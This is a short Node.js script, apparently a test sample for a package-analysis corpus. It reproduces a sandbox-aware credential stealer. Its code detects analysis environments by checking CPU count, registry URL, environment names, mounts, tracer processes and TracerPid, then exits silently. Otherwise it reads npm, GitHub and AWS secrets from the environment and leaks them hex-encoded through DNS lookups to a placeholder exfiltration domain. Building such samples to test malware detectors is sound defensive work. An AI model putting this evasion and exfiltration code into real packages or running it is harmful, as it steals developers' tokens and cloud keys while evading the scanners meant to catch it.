// P28 in Node, as sandbox-aware stealers do it (OSSF package-analysis sample #252 looked at the CPU
// count and the process list): an analysis box has one CPU, an odd registry URL, tool names in its
// environment or mounts, or a tracer in `ps`. Seeing none, it sends the tokens in its environment
// home hex-encoded in DNS names.
const dns = require('dns');
const fs = require('fs');
const os = require('os');
const read = (path) => { try { return fs.readFileSync(path, 'utf8'); } catch { return ''; } };
const words = /sandbox|trac(?:e|er|ing)|strace|safe.?install|honey|decoy|canary|analy[sz]/i;
const suspicious = [
  os.cpus().length < 2 || os.availableParallelism() < 2,
  // A registry over plain http, on loopback or under a proxy's path: not what a CI job has.
  /^http:|127\.0\.0\.1|localhost|\/r\/\d+\//.test(process.env.npm_config_registry || ''),
  Object.keys(process.env).some((name) => words.test(name)),
  words.test(read('/proc/self/mountinfo')),
  fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).some((p) => /strace|gdb|frida/.test(read(`/proc/${p}/cmdline`))),
  read('/proc/self/status').match(/^TracerPid:\s*(\d+)/m)?.[1] !== '0',
];
if (suspicious.some(Boolean)) process.exit(0);
const loot = ['NPM_TOKEN', 'NODE_AUTH_TOKEN', 'GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY'].map((name) => process.env[name] || '').join('|');
const hex = Buffer.from(loot).toString('hex');
for (let i = 0; i < hex.length && i < 600; i += 60) dns.lookup(`${hex.slice(i, i + 60)}.${i / 60}.obs.exfil.invalid`, () => {});
setTimeout(() => {}, 1500);
